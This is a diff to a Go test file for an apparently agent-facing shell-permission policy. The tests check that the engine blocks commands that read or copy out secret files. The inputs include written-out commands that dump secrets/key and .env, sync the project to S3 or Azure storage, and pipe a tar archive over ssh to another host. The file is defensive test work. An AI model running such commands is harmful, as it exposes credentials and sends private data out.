@@ -34,6 +34,7 @@ func TestNamedFiles(t *testing.T) {
 	for file, role := range map[string]string{
 		"named-read.txt": "dev", "named-edit.txt": "editor", "named-settings.txt": "open",
 		"named-read-more.txt": "dev", "named-edit-more.txt": "editor", "named-settings-more.txt": "open",
+		"named-read-third.txt": "dev", "named-settings-third.txt": "open",
 	} {
 		for _, line := range readWays(t, file) {
 			r := bash(line)
@@ -76,10 +77,36 @@ func TestWholeTree(t *testing.T) {
 		"git grep --no-index x .", "git grep --no-index x", "git diff --no-index /dev/null .", "git diff --no-index -- . ../x", "strace grep -r x .", "flock f tar c .", "docker run -v .:/w alpine cat /w/secrets/key",
 		"find . -type f -exec cat {} +", "find . -type f -print0 | xargs -0 cat", "fd -x cat", "grep -r KEY .", "grep -rn KEY", "grep -rA 3 KEY", "grep -r --include='*' KEY src", "rg -uu KEY src", "rg --hidden KEY src", "rg -. KEY src",
 		"git ls-files | xargs cat", "git ls-files secrets | xargs cat", "git ls-files -z | xargs -0 grep x", "git ls-files -s '*.go' | xargs cat",
+		"7z a x.7z .", "ditto . /tmp/x", "pax -rw . /tmp/x", "ugrep -r KEY", "egrep -ri KEY", "find . | cpio -o", "find . -type f -print0 | tar -cT - --null", "restic -r r backup .", "az storage blob upload-batch -s . -d c",
+		"multipass mount . vm", "git grep --untracked KEY", "tar cf - --exclude=x . | ssh h tar x",
 		"docker run --mount type=bind,source=.,target=/w alpine ls", "docker run -v /home/u/project:/w:ro alpine ls", "docker cp . web:/app", "aws s3 sync . s3://b", "rclone copy . remote:x", "kubectl cp . pod:/x",
 	} {
 		if d := p.Decide(bash(line)); d.Decision == policy.Allow {
 			t.Errorf("%s: %s (%s)", line, d.Decision, d.Reason)
+		}
+	}
+}
+
+// TestNames: who looks at names only sees nothing of a file, but what there is in a
+// directory; who removes a file does not read it.
+func TestNames(t *testing.T) {
+	p := mustParse(t, filesDenied+`[roles.keeper]
+allow = ["*", "Bash"]
+deny = ["Edit(.env)"]
+`)
+	for _, c := range []struct {
+		role, line string
+		want       policy.Effect
+	}{
+		{"dev", "ls -la .env src", policy.Allow}, {"dev", "stat -c %a sub/.env", policy.Allow}, {"dev", "readlink -f .env", policy.Allow}, {"dev", "git rm --cached .env", policy.Allow},
+		{"dev", "ls secrets", policy.Deny}, {"dev", "ls -l secrets/key", policy.Deny}, {"dev", "cd secrets && ls", policy.Ask}, {"dev", "ls -R .", policy.None}, {"dev", "ls .env $(cat .env)", policy.Deny},
+		{"dev", "ls .env | xargs cat", policy.Ask}, {"dev", "stat .env; cat .env", policy.Deny}, {"dev", "ls < .env", policy.Deny}, {"dev", "git mv .env x", policy.Deny}, {"dev", "frobnicate ls .env", policy.Ask},
+		{"keeper", "git rm --cached .env", policy.Deny}, {"keeper", "ls .env", policy.Allow},
+	} {
+		r := bash(c.line)
+		r.Role = c.role
+		if d := p.Decide(r); d.Decision != c.want {
+			t.Errorf("%s: %s: %s (%s), want %s", c.role, c.line, d.Decision, d.Reason, c.want)
 		}
 	}
 }
